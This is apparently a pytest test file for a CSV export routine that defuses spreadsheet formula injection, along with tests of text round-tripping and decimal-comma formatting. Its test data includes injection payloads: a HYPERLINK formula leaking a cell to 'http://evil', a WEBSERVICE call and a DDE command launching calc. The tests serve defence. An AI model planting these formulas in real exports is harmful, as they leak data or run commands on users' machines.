"""What a spreadsheet reads of our files: text and numbers, never something to run."""

import csv
import io

import pytest

from coccinelle.kit.spreadsheet import as_csv

HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1,"clic")', "+33612345678", "-1+cmd|' /C calc'!A0", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1",
    '=WEBSERVICE("http://evil")',
)  # fmt: skip


def read(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_run_is_text_in_the_file_read_again(text: str) -> None:
    assert read(as_csv([[text]])) == [["'" + text]]


@pytest.mark.parametrize("text", ['";=1+1;"', '"a\n=1+1"', "Julie", "é ; è", ""])
def test_other_words_come_back_as_they_were_in_one_cell(text: str) -> None:
    assert read(as_csv([[text, "x"]])) == [[text, "x"]]


def test_numbers_have_a_comma_and_the_file_its_mark() -> None:
    content = as_csv([[12, 0.5, 1234567.891, 40.0, None]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert read(content) == [["12", "0,5", "1234567,89", "40", ""]]
